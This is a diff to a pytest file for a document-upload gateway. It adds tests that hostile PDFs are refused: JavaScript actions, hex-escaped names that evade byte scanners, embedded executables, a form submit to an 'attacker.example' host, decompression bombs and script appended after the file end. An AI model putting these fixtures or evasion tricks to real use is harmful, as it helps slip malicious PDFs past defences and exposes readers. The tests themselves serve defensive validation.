@@ -7,11 +7,25 @@ import struct
 import zipfile
 import zlib
 
+import pikepdf
 import pytest
 
 from cases.documents import Upload, safe_file_name
-from cases.errors import DamagedDocumentError, EmptyDocumentError, UnacceptableDocumentError, UnsafeDocumentError
+from cases.errors import (
+    CostlyDocumentError,
+    DamagedDocumentError,
+    EmptyDocumentError,
+    UnacceptableDocumentError,
+    UnsafeDocumentError,
+)
 from gateway.adapters.document_contents import ContentInspector
+from tests.hostile_documents import (
+    EVASIONS,
+    FORBIDDEN_FEATURES,
+    pikepdf_document,
+    pypdf_finds,
+    scanned_document,
+)
 from tests.samples import PAGE, PDF, PNG, jpeg_image, jpeg_segment, pdf_document, png_chunk, png_image
 
 CONTENTS = ContentInspector()
@@ -158,11 +172,30 @@ CATALOG_WITH = "<< /Type /Catalog /Pages 2 0 R {} >>"
     "/Names << /EmbeddedFiles << /Names [(a.exe) 4 0 R] >> >>",
     "/OpenAction << /S /J#61vaScript /J#53 (app.alert\\(1\\)) >>",
     "/AA << /O << /S /SubmitForm /F (https://attacker.example) >> >>",
-    "/AcroForm << /XFA 5 0 R >>",
+    "/AcroForm << /Fields [] /XFA (<xdp:xdp/>) >>",
 ], ids=["javascript", "launch", "embedded-file", "hex-escaped-javascript", "submit-form", "xfa"])
 def test_a_pdf_that_runs_code_launches_programs_or_carries_files_is_refused_as_unsafe(addition):
     catalog = CATALOG_WITH.format(addition).encode()
     assert isinstance(refusal(pdf_document(catalog, *PAGE[1:])), UnsafeDocumentError)
+
+
+@pytest.mark.parametrize("feature", FORBIDDEN_FEATURES, ids=list(FORBIDDEN_FEATURES))
+def test_a_pdf_with_a_forbidden_feature_that_another_reader_sees_is_refused_as_unsafe(feature):
+    name, change = FORBIDDEN_FEATURES[feature]
+    hostile = pikepdf_document(change)
+    assert pypdf_finds(hostile, name)
+    assert isinstance(refusal(hostile), UnsafeDocumentError)
+
+
+@pytest.mark.parametrize("evasion", EVASIONS, ids=list(EVASIONS))
+def test_a_script_hidden_from_a_byte_scanner_but_seen_by_a_reader_is_refused(evasion):
+    hostile = EVASIONS[evasion]()
+    if evasion == "object-stream-without-type":  # pypdf gives up on it; qpdf, like PDFium, reads it anyway
+        with pikepdf.open(io.BytesIO(hostile)) as pdf:
+            assert pdf.Root.OpenAction.S == pikepdf.Name.JavaScript
+    else:
+        assert pypdf_finds(hostile, "/JavaScript")
+    assert isinstance(refusal(hostile), UnsafeDocumentError)
 
 
 def test_javascript_packed_in_a_compressed_object_stream_is_found_and_refused():
@@ -171,15 +204,22 @@ def test_javascript_packed_in_a_compressed_object_stream_is_found_and_refused():
     assert isinstance(refusal(pdf_document(catalog, *PAGE[1:], hidden)), UnsafeDocumentError)
 
 
-def test_an_object_stream_that_cannot_be_inspected_is_refused_as_unsafe():
+def test_an_encrypted_pdf_is_refused_as_it_cannot_be_inspected():
+    encrypted = pikepdf_document(encryption=pikepdf.Encryption(owner="sahib", user=""))
+    assert "encrypted" in refusal(encrypted).detail
+
+
+def test_an_object_stream_that_cannot_be_decoded_is_refused_as_damaged():
     packed = b"<< /Type /ObjStm /N 1 /First 5 /Length 10 /Filter /LZWDecode >>\nstream\n0123456789\nendstream"
-    assert isinstance(refusal(pdf_document(*PAGE, packed)), UnsafeDocumentError)
+    assert isinstance(refusal(pdf_document(*PAGE, packed)), DamagedDocumentError)
 
 
-def test_an_object_stream_that_would_unfold_beyond_the_budget_is_refused():
+def test_streams_that_would_unfold_beyond_the_budget_are_refused_as_too_costly():
     packed = zlib.compress(b" " * (40 * 1024 * 1024), 9)
-    bomb = b"<< /Type /ObjStm /N 1 /First 5 /Filter /FlateDecode >>\nstream\n" + packed + b"\nendstream"
-    assert isinstance(refusal(pdf_document(*PAGE, bomb)), UnsafeDocumentError)
+    bomb = b"<< /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed) + packed + b"\nendstream"
+    with pytest.raises(CostlyDocumentError):
+        Upload(field="address_document", name="b.pdf", content=pdf_document(*PAGE, bomb)).accept(
+            ContentInspector(decoded_budget=16 * 1024 * 1024))
 
 
 def test_the_letters_js_inside_binary_image_data_do_not_make_a_pdf_unsafe():
@@ -190,6 +230,41 @@ def test_the_letters_js_inside_binary_image_data_do_not_make_a_pdf_unsafe():
 def test_an_ordinary_hyperlink_in_a_pdf_is_accepted():
     link = b"<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.azersu.az) >> >>"
     assert accept(pdf_document(*PAGE, link))[0].media_type == "application/pdf"
+
+
+@pytest.mark.parametrize("opening", [
+    lambda pdf: pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.Fit]),
+    lambda pdf: pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([pdf.pages[0].obj, pikepdf.Name.FitH, 842])),
+], ids=["destination", "go-to"])
+def test_a_pdf_that_opens_at_one_of_its_own_pages_is_accepted(opening):
+    def open_at(pdf):
+        pdf.Root.OpenAction = opening(pdf)
+    assert accept(pikepdf_document(open_at, pages=2))[0].media_type == "application/pdf"
+
+
+@pytest.mark.parametrize("document", [
+    lambda: pikepdf_document(), lambda: pikepdf_document(pages=4, object_streams=True), lambda: scanned_document(pages=5),
+    lambda: pikepdf_document(lambda pdf: pdf.pages[0].__setattr__("Annots", pdf.make_indirect(pikepdf.Array([pikepdf.Dictionary(
+        Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=pikepdf.Array([0, 0, 9, 9]),
+        A=pikepdf.Dictionary(S=pikepdf.Name.URI, URI=pikepdf.String("https://www.azersu.az")))])))),
+], ids=["one-page", "object-streams", "scanned-pages", "page-with-link"])
+def test_ordinary_pdfs_as_writers_make_them_are_accepted(document):
+    assert accept(document())[0].media_type == "application/pdf"
+
+
+def test_a_pdf_whose_cross_references_must_be_repaired_is_refused_as_damaged():
+    wrong_offset = PDF.replace(b"0000000015 00000 n", b"0000000099 00000 n")
+    assert isinstance(refusal(wrong_offset), DamagedDocumentError)
+
+
+def test_a_stream_whose_length_is_wrong_is_refused_as_damaged():
+    wrong_length = b"<< /Length 3 >>\nstream\nBT /F1 12 Tf (endstream) Tj ET\nendstream"
+    assert isinstance(refusal(pdf_document(*PAGE, wrong_length)), DamagedDocumentError)
+
+
+def test_markup_after_the_end_of_a_pdf_is_refused_but_a_comment_is_accepted():
+    assert isinstance(refusal(PDF + b"<html><script>alert(1)</script></html>\n"), UnsafeDocumentError)
+    assert accept(PDF + b"% signed\r\n")[0].media_type == "application/pdf"
 
 
 # --- names ------------------------------------------------------------------------------------------------
